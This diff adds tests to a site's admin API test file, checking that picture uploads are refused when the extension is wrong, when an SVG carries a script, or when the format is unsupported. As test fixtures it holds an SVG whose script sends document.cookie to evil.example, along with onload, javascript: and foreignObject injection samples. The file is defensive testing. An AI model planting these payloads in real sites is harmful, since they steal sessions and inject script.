@@ -9,8 +9,10 @@ import type { AddressInfo } from 'node:net'
 import path from 'node:path'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { image } from '../../content/schema/articles.ts'
 import { collections } from '../../content/schema/collections.ts'
 import { adminApi } from '../../build/admin/api.ts'
+import { PICTURE_FORMATS } from '../../build/admin/picture-check.ts'
 import { ownServer, refusal } from '../../build/admin/request-guard.ts'
 import { timeLimit } from '../../tools/lib/time-limit.ts'
 import { scratchDir } from './scratch-dir.ts'
@@ -23,6 +25,8 @@ let png: Buffer
 
 const faq = 'content/faqs/about.yaml'
 const images = 'content/articles/images'
+const scriptedSvg =
+  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>'
 
 beforeAll(async () => {
   for (const name of await readdir(repository))
@@ -283,6 +287,110 @@ describe.each(refusals)('a request %s', (_, headersOf, status, sentence) => {
       Object.keys(answer.headers).filter((name) => name.startsWith('access-control-')),
     ).toEqual([])
     expect(await contentFiles()).toEqual(before)
+  })
+})
+
+describe('pictures', () => {
+  const persistMedia = (file: string, content: Buffer) =>
+    send('/admin/api/v1', {
+      headers: ownPage(),
+      body: {
+        action: 'persistMedia',
+        params: {
+          asset: {
+            path: `${images}/${file}`,
+            content: content.toString('base64'),
+            encoding: 'base64',
+          },
+        },
+      },
+    })
+
+  it('refuses a PNG named .svg, an SVG with a script under either name, and a scripted cover', async () => {
+    const before = await contentFiles()
+    expect((await persistMedia('chart.svg', png)).body).toEqual({
+      error: `"${images}/chart.svg" is refused: it is named .svg but its bytes are a PNG picture; name it .png`,
+    })
+    const svg = Buffer.from(scriptedSvg)
+    for (const name of ['chart.svg', 'chart.png']) {
+      const answer = await persistMedia(name, svg)
+      expect(answer.status).toBe(422)
+      expect(answer.body.error).toContain(`"${images}/${name}" is refused`)
+      expect(answer.body.error).toContain(
+        'an SVG drawing holding "<script", which would run in the editor’s page',
+      )
+    }
+    for (const [attack, found] of [
+      ['<rect onload="alert(1)"/>', '"onload="'],
+      ['<a href="javascript:alert(1)"><rect/></a>', '"javascript:"'],
+      ['<foreignObject><div/></foreignObject>', '"<foreignObject"'],
+    ]) {
+      const drawing = Buffer.from(
+        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4">${attack}</svg>`,
+      )
+      expect((await persistMedia('chart.svg', drawing)).body.error).toContain(`holding ${found}`)
+    }
+    const plain = Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect/></svg>',
+    )
+    expect((await persistMedia('chart.svg', plain)).body).toEqual({
+      error: `"${images}/chart.svg" is refused: its bytes are an SVG drawing, and only PNG, JPEG or WebP pictures are accepted (what the site’s image pipeline reads)`,
+    })
+    const asCover = await send('/admin/api/v1', {
+      headers: ownPage(),
+      body: {
+        action: 'persistEntry',
+        params: {
+          entry: { path: faq, raw: await editedFaq() },
+          assets: [
+            { path: `${images}/cover.png`, content: svg.toString('base64'), encoding: 'base64' },
+          ],
+        },
+      },
+    })
+    expect(asCover.status).toBe(422)
+    expect(asCover.body.error).toContain(`"${images}/cover.png" is refused`)
+    const asEntry = await send('/admin/api/v1', {
+      headers: ownPage(),
+      body: {
+        action: 'persistEntry',
+        params: { entry: { path: `${images}/drawing.svg`, raw: scriptedSvg }, assets: [] },
+      },
+    })
+    expect(asEntry.body).toEqual({
+      error: `"${images}/drawing.svg" is not an entry file (.yaml or .mdx); pictures are uploaded as pictures`,
+    })
+    expect(await contentFiles()).toEqual(before)
+  })
+
+  it('tells the content check about a picture the save would refuse', async () => {
+    const answer = await send('/admin/api/check', {
+      headers: ownPage(),
+      body: {
+        collection: 'faqs',
+        slug: 'about',
+        data: {},
+        assets: [{ path: `${images}/x.jpg`, content: png.toString('base64') }],
+      },
+    })
+    expect(answer.body.problems).toContainEqual(
+      `"${images}/x.jpg" is refused: it is named .jpg but its bytes are a PNG picture; name it .png`,
+    )
+  })
+
+  it('accepts each kind the image pipeline reads, and only those', async () => {
+    const kinds = Object.keys(PICTURE_FORMATS).map((extension) => extension.slice(1))
+    for (const kind of kinds)
+      expect(image.shape.src.safeParse(`./images/x.${kind}`).success).toBe(true)
+    for (const kind of ['svg', 'gif', 'avif', 'html'])
+      expect(image.shape.src.safeParse(`./images/x.${kind}`).success).toBe(false)
+    const made = {
+      jpeg: await sharp(png).jpeg().toBuffer(),
+      webp: await sharp(png).webp().toBuffer(),
+    }
+    expect((await persistMedia('photo.jpg', made.jpeg)).status).toBe(200)
+    expect((await persistMedia('photo.webp', made.webp)).status).toBe(200)
+    expect(await readFile(path.join(project(), images, 'photo.webp'))).toEqual(made.webp)
   })
 })
 
